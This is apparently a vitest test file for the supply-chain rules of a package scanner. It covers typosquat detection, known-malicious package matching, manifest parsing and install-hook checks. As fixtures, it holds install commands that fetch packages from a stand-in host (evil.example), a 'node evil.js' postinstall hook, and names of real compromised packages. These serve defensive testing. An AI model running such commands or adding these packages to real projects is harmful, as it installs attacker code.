/** Edge cases of the stage-5 rules: manifest parsing, normalisation, line numbers, operator lists. */
import { gzipSync } from 'node:zlib';
import { type ArtifactKind, computeSha256, type Finding } from '@agentry/core';
import {
  type ArchiveEntry,
  createScanContext,
  type Rule,
  runRules,
  scanArchive,
} from '@agentry/core/scanner';
import { Header } from 'tar';
import { describe, expect, it } from 'vitest';
import { knownMaliciousPackages } from '../../src/scanner/data/known-malicious.js';
import { popularNpmPackages } from '../../src/scanner/data/popular-npm.js';
import { popularPypiPackages } from '../../src/scanner/data/popular-pypi.js';
import { normalisePypiName } from '../../src/scanner/rules/supply-chain/dependency.js';
import { dynamicInstall } from '../../src/scanner/rules/supply-chain/dynamic-install.js';
import { installScript } from '../../src/scanner/rules/supply-chain/install-script.js';
import { knownMalicious } from '../../src/scanner/rules/supply-chain/known-malicious.js';
import { editDistance } from '../../src/scanner/rules/supply-chain/levenshtein.js';
import { looseVersionRange } from '../../src/scanner/rules/supply-chain/loose-version-range.js';
import { dependenciesOf } from '../../src/scanner/rules/supply-chain/manifests.js';
import { classifyNpmSpec } from '../../src/scanner/rules/supply-chain/npm-manifests.js';
import {
  classifyPep440,
  classifyPoetry,
  parseRequirement,
} from '../../src/scanner/rules/supply-chain/python-manifests.js';
import { findTyposquat, typosquat } from '../../src/scanner/rules/supply-chain/typosquat.js';
import { unpinnedDependency } from '../../src/scanner/rules/supply-chain/unpinned-dependency.js';

function filesOf(files: Record<string, string>): Map<string, ArchiveEntry> {
  const map = new Map<string, ArchiveEntry>();
  for (const [path, value] of Object.entries(files)) {
    const content = Buffer.from(value, 'utf8');
    map.set(path, { path, content, size: content.length, sha256: computeSha256(content), mode: 0o644 });
  }
  return map;
}

function contextOf(files: Record<string, string>, kind: ArtifactKind = 'skill', malicious: string[] = []) {
  return createScanContext(filesOf(files), kind, undefined, new Set(malicious));
}

function run(
  rule: Rule,
  files: Record<string, string>,
  options: { kind?: ArtifactKind; malicious?: string[] } = {},
) {
  return runRules(contextOf(files, options.kind, options.malicious), [rule]).findings;
}

const pkg = (body: Record<string, unknown>) =>
  `${JSON.stringify({ name: 'demo', version: '1.0.0', ...body }, null, 2)}\n`;
const where = (findings: Finding[]) => findings.map((f) => `${f.file}:${f.line}`);

describe('editDistance', () => {
  it('counts insertions, deletions, substitutions and adjacent transpositions', () => {
    expect(editDistance('lodash', 'lodash', 2)).toBe(0);
    expect(editDistance('lodash', 'lodahs', 2)).toBe(1);
    expect(editDistance('axios', 'axois', 2)).toBe(1);
    expect(editDistance('react', 'preact', 2)).toBe(1);
    expect(editDistance('requests', 'reqests', 2)).toBe(1);
    expect(editDistance('colorama', 'colourama', 2)).toBe(1);
    expect(editDistance('kitten', 'sitting', 3)).toBe(3);
    expect(editDistance('', 'abc', 3)).toBe(3);
  });

  it('stops early and reports max + 1 beyond the limit', () => {
    expect(editDistance('express', 'typescript', 2)).toBe(3);
    expect(editDistance('a', 'abcdef', 2)).toBe(3);
    expect(editDistance('abcdef', 'ghijkl', 1)).toBe(2);
  });
});

describe('specifier classification', () => {
  it('classifies npm specs', () => {
    const cases: Record<string, string> = {
      '1.2.3': 'exact',
      '=1.2.3': 'exact',
      'v1.2.3': 'exact',
      '^1.2.3': 'range',
      '~1.2.3': 'range',
      '1.x': 'range',
      '1': 'range',
      '>=1 <2': 'range',
      '1.2.3 || 1.2.4': 'range',
      '>=1.0.0': 'unbounded',
      '>1 || <3': 'unbounded',
      '*': 'any',
      '': 'any',
      x: 'any',
      latest: 'tag',
      next: 'tag',
      'github:user/repo': 'git',
      'user/repo#v1': 'git',
      'git+https://github.com/u/r.git': 'git',
      'git@github.com:u/r.git': 'git',
      'https://example.com/x.tgz': 'url',
      'file:../x': 'path',
      'link:../x': 'path',
      '../x': 'path',
      'workspace:*': 'workspace',
      '>>1': 'invalid',
    };
    for (const [spec, kind] of Object.entries(cases)) expect(classifyNpmSpec(spec).kind, spec).toBe(kind);
    expect(classifyNpmSpec('=1.2.3').version).toBe('1.2.3');
  });

  it('classifies PEP 440 and Poetry constraints', () => {
    expect(classifyPep440('==1.2.3')).toEqual({ kind: 'exact', version: '1.2.3' });
    expect(classifyPep440('===1.2.3').kind).toBe('exact');
    expect(classifyPep440('==1.*').kind).toBe('range');
    expect(classifyPep440('~=1.4').kind).toBe('range');
    expect(classifyPep440('>=1,<2').kind).toBe('range');
    expect(classifyPep440('(>=1, <2)').kind).toBe('range');
    expect(classifyPep440('>=1').kind).toBe('unbounded');
    expect(classifyPep440('>=1,!=1.5').kind).toBe('unbounded');
    expect(classifyPep440('').kind).toBe('any');
    expect(classifyPep440('latest').kind).toBe('invalid');
    expect(classifyPoetry('^1.2').kind).toBe('range');
    expect(classifyPoetry('~1.2').kind).toBe('range');
    expect(classifyPoetry('~=1.2').kind).toBe('range');
    expect(classifyPoetry('1.2.3')).toEqual({ kind: 'exact', version: '1.2.3' });
    expect(classifyPoetry('1.2.*').kind).toBe('range');
    expect(classifyPoetry('*').kind).toBe('any');
    expect(classifyPoetry('>=1.2').kind).toBe('unbounded');
  });

  it('parses PEP 508 requirements', () => {
    expect(parseRequirement('requests[socks]>=2.0,<3 ; python_version >= "3.8"')).toMatchObject({
      name: 'requests',
      kind: 'range',
    });
    expect(parseRequirement('pkg @ git+https://github.com/u/pkg.git@v1')).toMatchObject({
      name: 'pkg',
      kind: 'git',
    });
    expect(parseRequirement('pkg @ https://example.com/pkg-1.0.tar.gz')).toMatchObject({ kind: 'url' });
    expect(parseRequirement('Django')).toMatchObject({ name: 'Django', kind: 'any' });
    expect(normalisePypiName('Scikit__Learn.Extra')).toBe('scikit-learn-extra');
  });
});

describe('manifest reading', () => {
  it('reads requirements files with comments, continuations, options, URLs and line numbers', () => {
    const deps = dependenciesOf(
      contextOf({
        'requirements-dev.txt': [
          '# tools',
          '-r requirements.txt',
          '--extra-index-url https://example.com/simple',
          'black==24.4.2 \\',
          '    --hash=sha256:abc',
          'pytest>=8  # newest please',
          '-e git+https://github.com/u/lib.git#egg=lib',
          '-e .',
          'https://example.com/wheels/tool-1.0-py3-none-any.whl',
          'rich[jupyter]~=13.7; python_version >= "3.9"',
          '',
        ].join('\n'),
      }),
    );
    expect(deps.map((d) => [d.name, d.kind, d.line])).toEqual([
      ['black', 'exact', 4],
      ['pytest', 'unbounded', 6],
      ['lib', 'git', 7],
      ['tool', 'url', 9],
      ['rich', 'range', 10],
    ]);
  });

  it('reads pyproject.toml: [project], optional dependencies, groups and Poetry tables', () => {
    const deps = dependenciesOf(
      contextOf({
        'pyproject.toml': [
          '[build-system]',
          'requires = ["hatchling"]',
          '',
          '[project]',
          'name = "demo"',
          'dependencies = [',
          '  "httpx>=0.27,<1",  # a comment, with "quotes"',
          "  'pydantic==2.8.2',",
          '  "click",',
          ']',
          '',
          '[project.optional-dependencies]',
          'cli = ["typer>=0.12"]',
          '',
          '[tool.poetry.dependencies]',
          'python = "^3.11"',
          'requests = "^2.32"',
          'lib = { git = "https://github.com/u/lib.git", rev = "main" }',
          'numpy = { version = "1.26.4", optional = true }',
          '',
          '[tool.poetry.group.dev.dependencies]',
          'pytest = "*"',
        ].join('\n'),
      }),
    );
    expect(deps.map((d) => [d.name, d.kind, d.group, d.line])).toEqual([
      ['httpx', 'range', 'prod', 7],
      ['pydantic', 'exact', 'prod', 8],
      ['click', 'any', 'prod', 9],
      ['typer', 'unbounded', 'optional', 13],
      ['requests', 'range', 'prod', 17],
      ['lib', 'git', 'prod', 18],
      ['numpy', 'exact', 'prod', 19],
      ['pytest', 'any', 'dev', 22],
    ]);
  });

  it('never throws on broken manifests', () => {
    const ctx = contextOf({
      'package.json': '{ "dependencies": { "a": ',
      'pyproject.toml': '[project]\ndependencies = [\n  "unterminated\n[tool.poetry.dependencies]\nx = {\n',
      'requirements.txt': '\\\n===\n[]\n@@@\n',
      'sub/package.json': '[1, 2, 3]',
      'sub2/package.json': '{"dependencies": ["not", "a", "map"], "scripts": "nope"}',
    });
    expect(() => dependenciesOf(ctx)).not.toThrow();
    for (const rule of [
      unpinnedDependency,
      looseVersionRange,
      typosquat,
      knownMalicious,
      installScript,
      dynamicInstall,
    ]) {
      expect(runRules(ctx, [rule]).stages.stage5).not.toBe('error');
    }
  });

  it('gives package.json dependencies their own line, section by section', () => {
    const text = pkg({ devDependencies: { lodahs: '1.0.0' }, dependencies: { lodahs: '*' } });
    const findings = run(unpinnedDependency, { 'package.json': text });
    const line = text.split('\n').findIndex((l) => l.includes('"lodahs": "*"')) + 1;
    expect(where(findings)).toEqual([`package.json:${line}`]);
  });

  it('reads the installed package of an npm alias', () => {
    const findings = run(typosquat, {
      'package.json': pkg({ dependencies: { lodash: 'npm:lodahs@4.17.21' } }),
    });
    expect(findings[0]?.message).toContain('"lodahs"');
  });
});

describe('unpinned_dependency and loose_version_range', () => {
  it('checks peer dependencies only for outside sources, and skips workspaces', () => {
    const findings = run(unpinnedDependency, {
      'package.json': pkg({
        peerDependencies: { react: '*', vue: 'github:vuejs/core' },
        dependencies: { sibling: 'workspace:^' },
      }),
    });
    expect(findings.map((f) => f.message)).toEqual([expect.stringContaining('"vue" is fetched from git')]);
  });

  it('reports loose ranges of runtime dependencies only, and not beside a lockfile', () => {
    const files = {
      'package.json': pkg({
        dependencies: { express: '^4.19.2' },
        optionalDependencies: { fsevents: '~2.3.3' },
        devDependencies: { vitest: '^4.1.0' },
        peerDependencies: { react: '^18' },
      }),
    };
    expect(run(looseVersionRange, files).map((f) => f.severity)).toEqual(['low', 'low']);
    expect(run(looseVersionRange, { ...files, 'package-lock.json': '{}' })).toEqual([]);
    expect(run(unpinnedDependency, files)).toEqual([]);
  });
});

describe('typosquat', () => {
  it('never flags a popular package, on either list', () => {
    for (const name of popularNpmPackages) expect(findTyposquat('npm', name), name).toBeUndefined();
    for (const name of popularPypiPackages) expect(findTyposquat('pypi', name), name).toBeUndefined();
  });

  it('keeps the lists free of known-malicious names', () => {
    const malicious = new Set(knownMaliciousPackages.filter((e) => !e.includes('@', 5)));
    for (const name of popularNpmPackages) expect(malicious.has(`npm:${name}`), name).toBe(false);
    for (const name of popularPypiPackages) expect(malicious.has(`pypi:${name}`), name).toBe(false);
  });

  it('finds one- and two-edit neighbours and npm punctuation variants', () => {
    expect(findTyposquat('npm', 'lodahs')).toEqual({ target: 'lodash', distance: 1 });
    expect(findTyposquat('npm', 'expresss')).toEqual({ target: 'express', distance: 1 });
    expect(findTyposquat('npm', 'reactt-dom')?.target).toBe('react-dom');
    expect(findTyposquat('npm', 'webpakc-cli')?.target).toBe('webpack-cli');
    expect(findTyposquat('npm', 'cross_env')).toEqual({ target: 'cross-env', distance: 0 });
    expect(findTyposquat('npm', 'Lodash')).toBeUndefined();
    expect(findTyposquat('pypi', 'reqeusts')?.target).toBe('requests');
    expect(findTyposquat('pypi', 'beautifulsoup')?.target).toBe('beautifulsoup4');
    expect(findTyposquat('pypi', 'python-dateutils')?.target).toBe('python-dateutil');
  });

  it('follows PEP 503 on PyPI: case and separators do not make another project', () => {
    expect(findTyposquat('pypi', 'Flask')).toBeUndefined();
    expect(findTyposquat('pypi', 'scikit_learn')).toBeUndefined();
    expect(findTyposquat('pypi', 'PyYAML')).toBeUndefined();
    expect(findTyposquat('pypi', 'typing.extensions')).toBeUndefined();
  });

  it('skips short names, allows one edit up to seven characters, and respects npm scopes', () => {
    expect(findTyposquat('npm', 'wss')).toBeUndefined();
    expect(findTyposquat('npm', 'chaii')?.target).toBe('chai');
    expect(findTyposquat('npm', 'uuidv4')).toBeUndefined();
    expect(findTyposquat('npm', 'zustand-x')).toBeUndefined();
    expect(findTyposquat('npm', 'ejs-lint')).toBeUndefined();
    expect(findTyposquat('npm', 'eventemitter2')).toBeUndefined();
    expect(findTyposquat('npm', 'typescirpt')).toEqual({ target: 'typescript', distance: 1 });
    expect(findTyposquat('npm', 'nodemailler')?.target).toBe('nodemailer');
    expect(findTyposquat('npm', '@babeI/core')?.target).toBe('@babel/core');
    expect(findTyposquat('npm', '@types/nodee')).toBeUndefined();
    expect(findTyposquat('npm', '@acme/reacts')).toBeUndefined();
  });

  it('also checks packages installed at run time, and leaves known-malicious names to that rule', () => {
    const findings = run(typosquat, {
      'scripts/setup.sh': 'pip install reqeusts\npip install colourama\n',
      'requirements.txt': 'python3-dateutil==2.8.0\n',
    });
    expect(where(findings)).toEqual(['scripts/setup.sh:1']);
  });
});

describe('known_malicious', () => {
  it('matches names of every version and versioned entries only on exact pins', () => {
    const findings = run(knownMalicious, {
      'package.json': pkg({
        dependencies: {
          crossenv: '^6.1.1',
          'event-stream': '3.3.6',
          'ua-parser-js': '^0.7.28',
          rc: '1.2.8',
        },
      }),
      'requirements.txt': 'jeIlyfish==0.7.1\nColourama\nctx==0.2.6\nctx==0.2.1\n',
    });
    expect(findings.map((f) => f.evidence)).toEqual([
      '"crossenv": "^6.1.1"',
      '"event-stream": "3.3.6"',
      'jeIlyfish==0.7.1',
      'Colourama',
      'ctx==0.2.6',
    ]);
    expect(findings.every((f) => f.severity === 'critical')).toBe(true);
  });

  it('reads lockfiles (v1 and v3) and shipped packages', () => {
    const v3 = JSON.stringify(
      {
        lockfileVersion: 3,
        packages: {
          '': { name: 'demo' },
          'node_modules/event-stream': { version: '3.3.6' },
          'node_modules/event-stream/node_modules/flatmap-stream': { version: '0.1.1' },
          'node_modules/@ctrl/x': { version: '1.0.0' },
        },
      },
      null,
      2,
    );
    const v1 = JSON.stringify({
      lockfileVersion: 1,
      dependencies: { a: { version: '1.0.0', dependencies: { 'ua-parser-js': { version: '0.7.29' } } } },
    });
    const findings = run(knownMalicious, {
      'package-lock.json': v3,
      'legacy/npm-shrinkwrap.json': v1,
      'vendor/node_modules/getcookies/package.json': JSON.stringify({ name: 'getcookies', version: '1.0.0' }),
    });
    expect(findings.map((f) => f.evidence)).toEqual([
      'ua-parser-js@0.7.29',
      'event-stream@3.3.6',
      'flatmap-stream@0.1.1',
      'getcookies@1.0.0',
    ]);
    expect(findings[2]?.line).toBe(v3.split('\n').findIndex((l) => l.includes('flatmap-stream')) + 1);
  });

  it('adds the operator entries passed as createScanContext’s fourth argument, normalised', () => {
    const files = {
      'package.json': pkg({
        dependencies: { 'internal-evil': '1.0.0', 'left-pad': '1.3.0', 'is-odd': '3.0.1' },
      }),
      'requirements.txt': 'Bad_Pkg.Name==1.0\n',
    };
    expect(run(knownMalicious, files)).toEqual([]);
    const findings = run(knownMalicious, files, {
      malicious: [
        'npm:Internal-Evil',
        'npm:left-pad@1.3.0',
        'npm:is-odd@1.0.0',
        'pypi:bad-pkg-name',
        'garbage',
        'cargo:x',
      ],
    });
    expect(findings.map((f) => f.evidence)).toEqual([
      '"internal-evil": "1.0.0"',
      '"left-pad": "1.3.0"',
      'Bad_Pkg.Name==1.0',
    ]);
  });

  it('passes ScanOptions.knownMalicious through scanArchive', () => {
    const header = (path: string, size: number) => {
      const block = Buffer.alloc(512);
      new Header({ path, size, mode: 0o644, type: 'File', mtime: new Date(0) }).encode(block);
      return block;
    };
    const body = Buffer.from(pkg({ dependencies: { 'corp-secret-stealer': '1.0.0' } }));
    const tar = Buffer.concat([
      header('package.json', body.length),
      body,
      Buffer.alloc(512 - (body.length % 512)),
      Buffer.alloc(1024),
    ]);
    const bytes = gzipSync(tar);
    const plain = scanArchive(bytes, { kind: 'config' });
    expect(plain.report.findings.filter((f) => f.rule === 'known_malicious')).toEqual([]);
    const { report } = scanArchive(bytes, { kind: 'config', knownMalicious: ['npm:corp-secret-stealer'] });
    expect(report.findings.filter((f) => f.rule === 'known_malicious')).toHaveLength(1);
    expect(report.verdict).toBe('FAIL');
    expect(report.stages.stage5).toBe('failed');
  });

  it('checks packages installed at run time', () => {
    const findings = run(knownMalicious, {
      'SKILL.md': '```sh\npip install colourama\nnpm i -g crossenv\n```\n',
    });
    expect(where(findings)).toEqual(['SKILL.md:2', 'SKILL.md:3']);
  });
});

describe('install_script', () => {
  it('is high for install hooks, medium for prepare, and also catches binding.gyp', () => {
    const findings = run(installScript, {
      'package.json': pkg({ scripts: { prepare: 'tsc', preinstall: 'node x.js', test: 'vitest' } }),
      'native/package.json': pkg({ scripts: { build: 'node-gyp build' } }),
      'native/binding.gyp': '{}',
      'node_modules/dep/package.json': pkg({ scripts: { postinstall: 'node evil.js' } }),
    });
    expect(findings.map((f) => [f.file, f.severity])).toEqual([
      ['native/binding.gyp', 'high'],
      ['package.json', 'high'],
      ['package.json', 'medium'],
    ]);
    expect(findings[1]?.line).toBeGreaterThan(1);
  });
});

describe('dynamic_install', () => {
  const check = (files: Record<string, string>, kind?: ArtifactKind) =>
    run(dynamicInstall, files, kind ? { kind } : {}).map((f) => `${f.file}:${f.line}:${f.severity}`);

  it('finds installs in JS, Python and shell code, in their various spellings', () => {
    expect(
      check({
        'a.js': [
          "execSync('npm install ' + pkg);",
          "execSync('npm install left-pad', { stdio: 'inherit' });",
          'spawn(`yarn add ${name}`);',
          "execSync('npm install');",
          "throw new Error('Dependencies are missing: run npm install first.');",
          '// npm install commented-out',
          "console.log('Run pip install, then try again');",
        ].join('\n'),
        'b.py': [
          'subprocess.run(["pip", "install", "requests"])',
          'subprocess.check_call([sys.executable, "-m", "pip", "install", "rich"])',
          'os.system(f"pip3 install {name}")',
          'subprocess.run(["pip", "install", "-r", "requirements.txt"])',
          '# pip install nothing',
        ].join('\n'),
        'c.sh': [
          'npx -y cowsay hi',
          'npx tsc',
          'uvx ruff check .',
          'pipx run black .',
          'pnpm dlx create-x',
          'bunx tool',
          'npm ci',
          'npx tsc && pip install after-tsc',
        ].join('\n'),
      }),
    ).toEqual([
      'a.js:1:medium',
      'a.js:2:medium',
      'a.js:3:medium',
      'b.py:1:medium',
      'b.py:2:medium',
      'b.py:3:medium',
      'c.sh:1:medium',
      'c.sh:3:medium',
      'c.sh:4:medium',
      'c.sh:5:medium',
      'c.sh:6:medium',
      'c.sh:8:medium',
    ]);
  });

  it('is high for URLs, git, GitHub shorthand and custom indexes', () => {
    expect(
      check({
        'setup.sh': [
          'pip install https://evil.example/pkg.tar.gz',
          'pip install --index-url https://evil.example/simple requests',
          'npm install --registry=https://evil.example/ lodash',
          'yarn add someone/repo',
          'pip install "pkg @ git+https://github.com/u/pkg.git"',
          'npm install @scope/pkg@1.2.3',
        ].join('\n'),
      }),
    ).toEqual([
      'setup.sh:1:high',
      'setup.sh:2:high',
      'setup.sh:3:high',
      'setup.sh:4:high',
      'setup.sh:5:high',
      'setup.sh:6:medium',
    ]);
  });

  it('reads only code in SKILL.md, and other markdown only for agents and commands', () => {
    const markdown = [
      '# Setup',
      'You can npm install left-pad if you like.',
      'Run `pip install rich` first.',
      '```',
      'npm install -g some-cli',
      '```',
    ].join('\n');
    expect(check({ 'SKILL.md': markdown })).toEqual(['SKILL.md:3:medium', 'SKILL.md:5:medium']);
    expect(check({ 'README.md': markdown })).toEqual([]);
    expect(check({ 'agent.md': markdown }, 'agent')).toEqual(['agent.md:3:medium', 'agent.md:5:medium']);
  });
});

describe('large and hostile manifests', () => {
  it('reads thousands of dependencies, locked packages and continuation lines in linear time', () => {
    const count = 20_000;
    const names = Array.from({ length: count }, (_, i) => `package-number-${i}`);
    const started = performance.now();
    const ctx = contextOf({
      'package.json': pkg({ dependencies: Object.fromEntries(names.map((n) => [n, '*'])) }),
      'package-lock.json': JSON.stringify(
        {
          lockfileVersion: 3,
          packages: Object.fromEntries(names.map((n) => [`node_modules/${n}`, { version: '1.0.0' }])),
        },
        null,
        2,
      ),
      'pyproject.toml': `[project]\ndependencies = [\n${names.map((n) => `  "${n}>=1",`).join('\n')}\n]\n`,
      'requirements.txt': `${'x \\\n'.repeat(50_000)}y\n`,
    });
    const { findings } = runRules(ctx, [unpinnedDependency, looseVersionRange, typosquat, knownMalicious]);
    const elapsed = performance.now() - started;
    expect(findings.filter((f) => f.rule === 'unpinned_dependency')).toHaveLength(2 * count + 1);
    const last = findings.filter((f) => f.file === 'package.json').at(-1);
    expect(last?.line).toBe(count + 4);
    // No timing assertion (benchmarks live in bench/): quadratic work would blow the test timeout.
    console.log(`${count} dependencies read in ${Math.round(elapsed)} ms`);
  });
});
